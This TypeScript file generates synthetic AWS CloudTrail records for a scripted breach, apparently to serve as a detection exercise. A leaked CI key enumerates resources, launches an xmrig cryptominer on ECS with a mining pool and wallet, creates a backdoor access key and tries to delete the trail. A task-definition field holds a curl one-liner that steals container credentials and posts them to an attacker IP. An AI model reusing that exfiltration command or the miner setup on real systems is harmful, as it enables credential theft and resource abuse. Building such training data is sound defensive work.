import type { Random } from './random.js';
import type { Account, Actor } from './identities.js';
import { accessDenied, buildRecord } from './events.js';
import type { CallSpec } from './events.js';
import type { Json } from './identities.js';

/**
 * The attack worth finding in samples/ (documented in samples/README.md): ci-deploy's long-term key
 * leaks, is tested with GetCallerIdentity from a VPS, enumerates (many AccessDenied), starts a
 * cryptominer on ECS in a region the company does not use, creates a backdoor key, and fails to
 * delete the trail.
 */
export const STORY = {
  accountId: '111122223333',
  day: '2026-03-03',
  attackerIp: '198.51.100.23',
  userAgent: 'aws-cli/1.16.312 Python/2.7.18 Linux/5.10.0-kali7-amd64 botocore/1.13.48',
  minerImage: 'xmrig/xmrig:latest',
  minerRegion: 'ap-southeast-2',
  backdoorUser: 'backup-admin',
} as const;

interface Step {
  readonly time: string;
  readonly region: string;
  readonly spec: (account: Account, arn: string) => CallSpec;
}

const ecs = 'ecs.amazonaws.com';

const STEPS: readonly Step[] = [
  {
    time: '14:02:11',
    region: 'us-east-1',
    spec: () => ({
      source: 'sts.amazonaws.com',
      name: 'GetCallerIdentity',
      readOnly: true,
      request: null,
      response: null,
    }),
  },
  {
    time: '14:03:02',
    region: 'us-east-1',
    spec: (a, arn) => ({
      source: 'iam.amazonaws.com',
      name: 'ListUsers',
      readOnly: true,
      request: null,
      response: null,
      error: accessDenied(arn, 'iam:ListUsers', `arn:aws:iam::${a.id}:user/`),
    }),
  },
  {
    time: '14:03:09',
    region: 'us-east-1',
    spec: (a, arn) => ({
      source: 'iam.amazonaws.com',
      name: 'ListRoles',
      readOnly: true,
      request: null,
      response: null,
      error: accessDenied(arn, 'iam:ListRoles', `arn:aws:iam::${a.id}:role/`),
    }),
  },
  {
    time: '14:03:30',
    region: 'us-east-1',
    spec: () => ({
      source: 's3.amazonaws.com',
      name: 'ListBuckets',
      readOnly: true,
      request: { Host: 's3.amazonaws.com' },
      response: null,
    }),
  },
  {
    time: '14:04:12',
    region: 'us-east-1',
    spec: (_account, arn) => ({
      source: 'secretsmanager.amazonaws.com',
      name: 'ListSecrets',
      readOnly: true,
      request: null,
      response: null,
      error: {
        code: 'AccessDeniedException',
        message:
          `User: ${arn} is not authorized to perform: secretsmanager:ListSecrets ` +
          'because no identity-based policy allows the secretsmanager:ListSecrets action',
      },
    }),
  },
  {
    time: '14:04:40',
    region: 'us-east-1',
    spec: (a, arn) => ({
      source: 'ssm.amazonaws.com',
      name: 'DescribeParameters',
      readOnly: true,
      request: null,
      response: null,
      error: {
        code: 'AccessDeniedException',
        message:
          `User: ${arn} is not authorized to perform: ssm:DescribeParameters ` +
          `on resource: arn:aws:ssm:us-east-1:${a.id}:*`,
      },
    }),
  },
  {
    time: '14:05:05',
    region: 'us-east-1',
    spec: () => ({ source: ecs, name: 'ListClusters', readOnly: true, request: { maxResults: 100 }, response: null }),
  },
  {
    time: '14:05:21',
    region: 'us-east-1',
    spec: () => ({
      source: 'ec2.amazonaws.com',
      name: 'DescribeRegions',
      readOnly: true,
      request: { regionSet: {} },
      response: null,
    }),
  },
  {
    time: '14:09:48',
    region: STORY.minerRegion,
    spec: (a) => ({
      source: ecs,
      name: 'RegisterTaskDefinition',
      readOnly: false,
      request: {
        family: 'system-update',
        networkMode: 'awsvpc',
        requiresCompatibilities: ['FARGATE'],
        cpu: '4096',
        memory: '8192',
        containerDefinitions: [
          {
            name: 'updater',
            image: STORY.minerImage,
            essential: true,
            command: [
              '--url',
              'pool.supportxmr.com:443',
              '--tls',
              '--user',
              '48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD',
            ],
            environment: [
              {
                name: 'EXFIL',
                value:
                  'curl -s 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | ' +
                  `curl -X POST -d @- http://${STORY.attackerIp}:8080/c`,
              },
            ],
          },
        ],
      },
      response: {
        taskDefinition: {
          taskDefinitionArn: `arn:aws:ecs:${STORY.minerRegion}:${a.id}:task-definition/system-update:1`,
          family: 'system-update',
          revision: 1,
          status: 'ACTIVE',
        },
      },
    }),
  },
  {
    time: '14:10:30',
    region: STORY.minerRegion,
    spec: (a) => ({
      source: ecs,
      name: 'CreateCluster',
      readOnly: false,
      request: { clusterName: 'default-sync' },
      response: {
        cluster: {
          clusterArn: `arn:aws:ecs:${STORY.minerRegion}:${a.id}:cluster/default-sync`,
          clusterName: 'default-sync',
          status: 'ACTIVE',
        },
      },
    }),
  },
  {
    time: '14:11:02',
    region: STORY.minerRegion,
    spec: (a) => ({
      source: ecs,
      name: 'CreateService',
      readOnly: false,
      request: {
        cluster: 'default-sync',
        serviceName: 'sync-worker',
        taskDefinition: 'system-update:1',
        desiredCount: 10,
        launchType: 'FARGATE',
      },
      response: {
        service: {
          serviceArn: `arn:aws:ecs:${STORY.minerRegion}:${a.id}:service/default-sync/sync-worker`,
          serviceName: 'sync-worker',
          status: 'ACTIVE',
          desiredCount: 10,
        },
      },
    }),
  },
  {
    time: '14:12:15',
    region: STORY.minerRegion,
    spec: (a) => ({
      source: ecs,
      name: 'RunTask',
      readOnly: false,
      request: { cluster: 'default-sync', taskDefinition: 'system-update:1', count: 10, launchType: 'FARGATE' },
      response: {
        tasks: [
          {
            taskArn: `arn:aws:ecs:${STORY.minerRegion}:${a.id}:task/default-sync/5d2a9f0e1c3b4a7d8e6f0a1b2c3d4e5f`,
            lastStatus: 'PROVISIONING',
          },
        ],
        failures: [],
      },
    }),
  },
  {
    time: '14:14:40',
    region: 'us-east-1',
    spec: (a) => ({
      source: 'iam.amazonaws.com',
      name: 'CreateAccessKey',
      readOnly: false,
      request: { userName: STORY.backdoorUser },
      response: {
        accessKey: {
          userName: STORY.backdoorUser,
          accessKeyId: 'AKIAQBACKD00RKEY7X2M',
          status: 'Active',
          createDate: 'Mar 3, 2026, 2:14:40 PM',
        },
      },
      resources: [{ accountId: a.id, type: 'AWS::IAM::User', ARN: `arn:aws:iam::${a.id}:user/${STORY.backdoorUser}` }],
    }),
  },
  {
    time: '14:15:55',
    region: 'us-east-1',
    spec: (a, arn) => ({
      source: 'cloudtrail.amazonaws.com',
      name: 'DeleteTrail',
      readOnly: false,
      request: { name: 'acme-org-trail' },
      response: null,
      error: accessDenied(arn, 'cloudtrail:DeleteTrail', `arn:aws:cloudtrail:us-east-1:${a.id}:trail/acme-org-trail`),
    }),
  },
];

/** The story's records, for the account it happens in; none for other accounts. */
export function storyRecords(random: Random, account: Account, leakedActor: Actor): Json[] {
  if (account.id !== STORY.accountId) return [];
  const arn = String(leakedActor.userIdentity(STORY.day)['arn']);
  return STEPS.map((step) =>
    buildRecord(
      random,
      { account, region: step.region, time: `${STORY.day}T${step.time}Z` },
      leakedActor,
      step.spec(account, arn),
      {
        sourceIp: STORY.attackerIp,
        userAgent: STORY.userAgent,
      },
    ),
  );
}
